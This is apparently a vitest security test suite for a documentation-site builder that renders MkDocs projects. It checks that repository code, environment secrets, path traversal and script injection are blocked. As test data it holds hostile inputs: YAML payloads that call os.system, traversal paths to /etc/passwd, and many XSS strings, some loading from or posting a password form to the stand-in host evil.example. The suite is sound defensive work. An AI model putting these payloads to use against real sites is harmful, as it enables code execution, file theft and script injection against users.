import { afterAll, describe, expect, test } from 'vitest';
import { checkDocsPath, createSiteBuilder } from '../index.ts';
import { memorySource, pageReader, textOf } from '../testing/index.ts';

const builder = createSiteBuilder({ threads: 1 });
const page = pageReader(builder);
afterAll(() => builder.close());

describe('[SEC-01] code of the repository', () => {
  test('in tags, hooks, plugins and themes of mkdocs.yml is never run', async () => {
    const { site, content } = await page('# Safe\n', {
      'mkdocs.yml': [
        'site_name: !!python/object/apply:os.system ["touch /tmp/pwned"]',
        'site_description: !!python/object/new:subprocess.Popen [[id]]',
        'hooks: [evil.py]',
        'theme: {name: material, custom_dir: overrides}',
        'plugins: [{macros: {module_name: evil}}, evil]',
        'markdown_extensions: [evil.extension, {pymdownx.superfences: {custom_fences: [{name: x, class: x, format: !!python/name:evil.run }]}}]',
        'extra_javascript: [evil.js]',
      ].join('\n'),
      'evil.py': 'raise Exception()',
      'overrides/main.html': '<script>alert(1)</script>',
    });
    expect(content).toContain('Safe');
    expect(site.metadata.site_name).toBe('Site');
    expect(await textOf(site, 'index.html')).not.toContain('<script');
    expect(site.warnings.filter((line) => line.includes('the tag '))).toHaveLength(3);
    expect(site.warnings.join()).toContain("'hooks' is ignored: the portal does not run");
    expect(site.warnings.join()).toContain("'extra_javascript' is ignored: the portal does not run");
    expect(site.warnings.join()).toContain('custom_dir is ignored');
  });

  test('the environment is not read', async () => {
    process.env.CALLBOARD_TEST_SECRET = 'open sesame';
    const { html } = await page('# $CALLBOARD_TEST_SECRET\n', {
      'mkdocs.yml': 'site_name: !ENV CALLBOARD_TEST_SECRET\nsite_description: !ENV [CALLBOARD_TEST_SECRET, other]\n',
    });
    delete process.env.CALLBOARD_TEST_SECRET;
    expect(html).not.toContain('open sesame');
  });

  test('rejects an alias bomb', async () => {
    const levels = Array.from(
      { length: 12 },
      (_, level) => `l${level + 1}: &l${level + 1} [${`*l${level},`.repeat(9)}]`,
    );
    await expect(page('# A\n', { 'mkdocs.yml': `l0: &l0 [x]\n${levels.join('\n')}\nnav: *l12\n` })).rejects.toThrow(
      /mkdocs\.yml cannot be read/,
    );
  });
});

describe('[SEC-03] nothing outside the source is read or written', () => {
  const outside = [
    '../secret.md',
    '/etc/passwd',
    '..\\secret.md',
    'a/../../secret.md',
    'a\0b.md',
    './a.md',
    'a//b.md',
    '',
  ];

  test.each(outside)('rejects the path %j', (path) => {
    expect(() => checkDocsPath(path)).toThrow('is not a path inside the docs');
  });

  test('skips files with such names, with a warning', async () => {
    const { site } = await page('# A\n', { 'docs/../../x.md': '# X\n', '/abs.md': '# Y\n' });
    expect(site.pages).toHaveLength(1);
    expect(site.warnings).toHaveLength(2);
  });

  test.each(['../up', '../../etc', 'a/../../x', '/etc'])('rejects the docs folder %j', async (folder) => {
    await expect(page('# A\n', { 'mkdocs.yml': `docs_dir: ${folder}\n` })).rejects.toThrow('is outside the source');
  });

  test.each([
    '../secret.txt',
    '/etc/passwd',
    '..%2fsecret.txt',
    'x/../../secret.txt',
    'https://example.com/x',
    '....//x',
  ])('skips the snippet %j', async (name) => {
    const asked: string[] = [];
    const files = {
      'docs/index.md': `--8<-- "${name}"\n\nText\n`,
      'mkdocs.yml': 'markdown_extensions: [pymdownx.snippets]\n',
    };
    const source = memorySource(files);
    const read = (path: string) => {
      asked.push(path);
      return source.read(path);
    };
    const site = await builder.build({ list: source.list, read }, { siteName: 'S' });
    expect(site.warnings).toEqual([expect.stringContaining('skipped the snippet')]);
    expect(asked.every((path) => checkDocsPath(path))).toBe(true);
  });

  test('stops at a snippet that includes itself', async () => {
    const { site } = await page('--8<-- "a.md"\n', {
      'mkdocs.yml': 'markdown_extensions: [pymdownx.snippets]\n',
      'a.md': 'x\n--8<-- "a.md"\n--8<-- "a.md"\n',
    });
    expect(site.warnings.join()).toContain('more than 10 snippets deep');
  });

  test('does not follow links and images that lead out', async () => {
    const { content, site } = await page(
      '![a](../../secret.png) [b](../../../etc/passwd) ![c](%2e%2e/%2e%2e/x.png)\n',
      { 'secret.png': 'x' },
    );
    expect(content).toBe('<p><img alt="a" loading="lazy"> <a>b</a> <img alt="c" loading="lazy"></p>\n');
    expect(site.metadata.files.some((path) => path.includes('secret') || path.includes('..'))).toBe(false);
  });
});

describe('[SEC-09] scripts in pages', () => {
  const attacks: Record<string, string> = {
    script: '<script>alert(1)</script>',
    'script in capitals, unclosed': '<SCRIPT src=//evil.example>',
    'script inside of a tag': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'event handler': '<img src=x onerror=alert(1)>',
    'event handler behind a slash': '<img/src=x/onerror=alert(1)>',
    'event handler behind a quote': '<a href="x" "onclick="alert(1)" onmouseover=alert(1)>x</a>',
    'javascript link': '[x](javascript:alert(1))',
    'javascript link in HTML': '<a href="javascript:alert(1)">x</a>',
    'javascript behind a tab': '<a href="java&#9;script:alert(1)">x</a><a href="java\tscript:alert(1)">y</a>',
    'javascript behind references': '<a href="javascript&colon;alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
    'javascript behind spaces': '<a href="  javascript:alert(1)">x</a>',
    'javascript by reference': '[x][r]\n\n[r]: javascript:alert(1)',
    'javascript in an autolink': '<javascript:alert(1)>',
    'vbscript and data links':
      '[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) <a href="data:text/html;base64,PHNjcmlwdD4=">z</a>',
    'attribute list': '**x**{ onclick=alert(1) } [y](a){ href="javascript:alert(1)" } ![z](a){ onerror="alert(1)" }',
    'class of the portal': '<div class="md-overlay md-header admonition" id="__drawer">x</div>',
    'class behind a reference': '<div class="md&#45;overlay md&hyphen;header" id="&#95;_drawer">x</div>',
    'svg with a script': '<svg><script>alert(1)</script></svg><svg/onload=alert(1)>',
    'math with markup':
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    'style element': '<style>@import "//evil.example"; body{display:none}</style>',
    'style that fetches':
      '<div style="background:url(//evil.example/x)">x</div><div style="background:\\75rl(//evil.example)">y</div>',
    'style that covers': '<div style="position:fixed;inset:0;z-index:99;margin-top:-900px">x</div>',
    'frame of another site':
      '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    'object and embed': '<object data="evil.swf"><embed src="javascript:alert(1)"></object>',
    form: '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    'meta, base and link':
      '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example"><link rel=stylesheet href=//evil.example>',
    'comment that never ends': '<!-- <img src=x onerror=alert(1)>',
    'text elements':
      '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><noscript><img src=x onerror=alert(1)></noscript>',
    template: '<template><img src=x onerror=alert(1)></template>',
    'code block': '```html\n<img src=x onerror=alert(1)>\n```\n',
    'title of a code block': '```py title="<img src=x onerror=alert(1)>"\nx\n```\n',
    'language of a code block': '```"><img/src=x/onerror=alert(1)>\nx\n```\n',
    diagram: '```mermaid\n</code></pre><img src=x onerror=alert(1)>\n```\n',
    formula: '$$\n\\href{javascript:alert(1)}{x} \\text{<img src=x onerror=alert(1)>}\n$$\n',
    footnote: 'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: <img src=x onerror=alert(1)>\n',
    abbreviation: 'A HTML\n\n*[HTML]: "><img src=x onerror=alert(1)>\n',
    admonition: '!!! note "<img src=x onerror=alert(1)>"\n    x\n',
    tab: '=== "<img src=x onerror=alert(1)>"\n    x\n',
    keys: '++"<img/src=x/onerror=alert(1)>"++',
    heading: '# <img src=x onerror=alert(1)>\n\n## x {#"><img/src=x/onerror=alert(1)>}\n\n[TOC]\n',
    picture: '![x](a.png "\'><img src=x onerror=alert(1)>")',
    'closing the page': '</article></div></main><!--/content--><script>alert(1)</script>',
    'a reserved slot': 'x \0s0\0 y \\0s1\\0 &#0;s0&#0;\n\n```py\n1\n```\n',
    'front matter':
      '---\ntitle: "<img src=x onerror=alert(1)>"\ndescription: \'"><img src=x onerror=alert(1)>\'\n---\n\nx\n',
  };

  test.each(Object.entries(attacks))('%s', async (_name, markdown) => {
    const { html } = await page(`${markdown}\n\nThe end\n`);
    const tags = tagsIn(html);
    expect(tags.filter(({ name }) => forbidden.has(name))).toEqual([]);
    expect(tags.flatMap(({ attributes }) => attributes).filter(isDangerous)).toEqual([]);
    expect(html.match(/<!--\/content-->/g)).toHaveLength(1);
  });

  test('links of the navigation, the repository and its editor lead nowhere else', async () => {
    const { html, site } = await page('# A\n', {
      'mkdocs.yml':
        'repo_url: javascript:alert(1)\nedit_uri: javascript:alert(2)\ncopyright: <img src=x onerror=alert(1)>\nnav:\n  - A: index.md\n  - Evil: javascript:alert(3)\n  - "<img src=x onerror=alert(1)>": index.md\n',
    });
    expect(
      tagsIn(html)
        .flatMap(({ attributes }) => attributes)
        .filter(isDangerous),
    ).toEqual([]);
    expect(site.warnings.join()).toContain("links to 'javascript:alert(3)', which is not allowed");
  });
});

const forbidden = new Set(
  'script style iframe object embed form button textarea svg:script base template noscript frame title:x'.split(' '),
);

/** Reads HTML as a browser would, without any of our code. */
function tagsIn(html: string): { name: string; attributes: [string, string][] }[] {
  // Bounded: the pages above, less than 100,000 characters.
  const found = html.matchAll(/<([a-zA-Z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g);
  return [...found].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    // Bounded: the same pages, less than 100,000 characters.
    attributes: [...rest.matchAll(/([^\s=/"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]*)))?/g)].map(
      ([, key = '', a, b, c]) => [key.toLowerCase(), a ?? b ?? c ?? ''],
    ),
  }));
}

function isDangerous([name, value]: [string, string]): boolean {
  if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction' || name === 'http-equiv') return true;
  if (name === 'style') return /url|expression|position|\\|-\d/.test(value);
  if ((name === 'class' || name === 'id') && /&(?!(?:amp|lt|gt|quot);)/.test(value)) return true;
  if (name === 'class') return /md-overlay/.test(value) && value !== 'md-overlay';
  if (['href', 'src', 'action', 'data', 'cite', 'poster'].includes(name))
    return /^\s*(?:javascript|vbscript|data:text)|^[^#]*&(?!amp;)/i.test(value);
  return false;
}
